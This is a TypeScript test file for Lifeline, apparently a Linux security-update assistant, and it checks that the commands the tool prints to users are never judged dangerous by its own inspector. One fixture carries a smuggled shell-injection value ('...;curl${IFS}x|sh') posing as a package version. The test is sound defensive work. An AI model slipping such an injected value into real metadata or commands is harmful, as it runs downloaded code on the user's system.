/**
 * Attack: a hostile (but validly signed) index or advisory shapes the steps Lifeline prints, so that Lifeline itself
 * hands the user a dangerous command. Every command a check generates must pass Lifeline's own instruction checker
 * (main/core/inspect) without a `dangerous` verdict: the temporary deb822 source for another mirror, the install,
 * the new kernel, the removal, the restarts and the re-check — also when the index offers shell syntax as versions.
 */
import { describe, expect, it } from 'vitest'
import { assess } from '../../main/core/assess/assess'
import type { AvailableVersion, GuidanceStep } from '../../main/core/assess/types'
import { inspectText } from '../../main/core/inspect/inspect'
import { usedSources } from '../../main/core/system/local-system'
import { loadShellParser } from '../../main/node/shell-parser'
import { advisory, jammySystem } from '../unit/core/assess/support'

const NOW = Date.UTC(2022, 9, 10)

function av(p: Partial<AvailableVersion> & Pick<AvailableVersion, 'package' | 'version'>): AvailableVersion {
  return {
    mirrorId: 'university',
    mirrorUrl: 'http://mirror.example.edu/ubuntu',
    suite: 'jammy-security',
    component: 'main',
    arch: 'amd64',
    source: p.package,
    sourceVersion: p.version,
    ...p,
  }
}

function stepsOf(available: readonly AvailableVersion[], rebootRequired = false): readonly GuidanceStep[] {
  const sys = jammySystem()
  const system = { ...sys, rebootRequired: { required: rebootRequired, packages: [] } }
  const a = assess({
    system,
    advisories: [
      advisory('USN-7-1', [{ name: 'linux', fixedVersion: '5.15.0-60.66' }], {
        mitigations: ['Restart the computer after installing the update.'],
      }),
    ],
    available,
    usedMirrors: usedSources(system),
    now: NOW,
  })
  return [...a.steps, ...a.advisories.flatMap((x) => x.steps)]
}

describe('attack: dangerous commands in the steps Lifeline generates', () => {
  describe('when the fix (openssl and a new kernel) is only on a mirror this machine does not use', () => {
    it('generates a temporary source, installs, removal and restarts, none judged dangerous', async () => {
      const parser = await loadShellParser()
      const steps = stepsOf(
        [
          av({ package: 'openssl', version: '3.0.2-0ubuntu1.7' }),
          av({ package: 'libssl3', version: '3.0.2-0ubuntu1.7', source: 'openssl' }),
          av({ package: 'linux-image-5.15.0-60-generic', version: '5.15.0-60.66', source: 'linux-signed' }),
          av({ package: 'linux-modules-5.15.0-60-generic', version: '5.15.0-60.66', source: 'linux' }),
        ],
        true,
      )
      const commands = steps.flatMap((s) => (s.command ? [s.command] : []))
      expect(commands.some((c) => c.includes('lifeline-temporary.sources'))).toBe(true)
      expect(commands.some((c) => c.startsWith('sudo apt install --only-upgrade'))).toBe(true)
      for (const c of commands) {
        const r = await inspectText(c, { parser })
        expect(r.verdict, `${c}\n${r.summary}`).not.toBe('dangerous')
      }
      // And all of them pasted together, as a user would copy the whole list.
      expect((await inspectText(commands.join('\n'), { parser })).verdict).not.toBe('dangerous')
    })
  })

  describe('when a signed index offers a "version" carrying shell syntax', () => {
    it('prints no command with it, and nothing dangerous', async () => {
      const parser = await loadShellParser()
      const steps = stepsOf([av({ package: 'openssl', version: '3.0.2-0ubuntu1.8;curl${IFS}x|sh' })])
      for (const s of steps) {
        expect(s.command ?? '').not.toContain('curl')
        if (s.command) expect((await inspectText(s.command, { parser })).verdict).not.toBe('dangerous')
      }
    })
  })
})
